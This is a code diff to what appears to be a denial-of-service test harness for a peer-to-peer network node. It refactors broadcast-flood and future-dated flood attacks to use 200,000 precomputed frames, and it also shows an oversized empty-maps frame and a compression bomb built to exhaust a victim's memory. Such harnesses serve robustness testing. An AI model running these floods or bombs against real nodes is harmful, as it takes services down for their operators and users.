@@ -71,6 +71,32 @@ async function repeat(victim, until, options, attack) {
   return stats;
 }
 
+/** Unique broadcasts, built before the attack (see PREPARE) so it runs at wire speed. */
+const FLOOD_FRAMES = 200_000;
+const floods = new Map();
+
+/** The flood's frames, dated `ahead` seconds in the future, built once. */
+function floodFrames(ahead) {
+  if (!floods.has(ahead)) {
+    const sender = makeNodeId(randomBytes(32), 'abuse');
+    const time = now() + ahead;
+    floods.set(ahead, Array.from({ length: FLOOD_FRAMES }, (_, i) => frame(packets(sender, flags.broadcast, [flags.broadcast, 'flood', i], time))));
+  }
+  return floods.get(ahead);
+}
+
+/** Floods unique broadcasts dated `ahead` seconds in the future, from reconnecting peers. */
+function flood(victim, until, ahead) {
+  const frames = floodFrames(ahead);
+  return repeat(victim, until, {}, (conn) => pump(conn, until, (i) => frames[i % FLOOD_FRAMES]));
+}
+
+/** What an attack builds before it starts, so that building is not counted as attacking. */
+export const PREPARE = {
+  'broadcast-flood': () => floodFrames(0),
+  'future-dated': () => floodFrames(599),
+};
+
 /** 16 MiB of empty maps in one broadcast: ~1 GiB of heap when decoded without a bound. */
 function emptyMapsFrame(id) {
   const count = 16 * MiB - 256;
@@ -88,10 +114,8 @@ export const ATTACKS = {
       conn.socket.write(emptyMapsFrame(conn.id));
       return 1;
     }),
-  'broadcast-flood': (victim, until) =>
-    repeat(victim, until, {}, (conn) => pump(conn, until, (i) => frame(packets(conn.id, flags.broadcast, [flags.broadcast, 'flood', i])))),
-  'future-dated': (victim, until) =>
-    repeat(victim, until, {}, (conn) => pump(conn, until, (i) => frame(packets(conn.id, flags.broadcast, [flags.broadcast, 'ahead', i], now() + 599)))),
+  'broadcast-flood': (victim, until) => flood(victim, until, 0),
+  'future-dated': (victim, until) => flood(victim, until, 599),
   'compression-bomb': (victim, until) => {
     let bomb; // about 16 KiB inflating to 16 MiB (1,000:1), built once
     return repeat(victim, until, { compression: [flags.zlib] }, (conn) => {
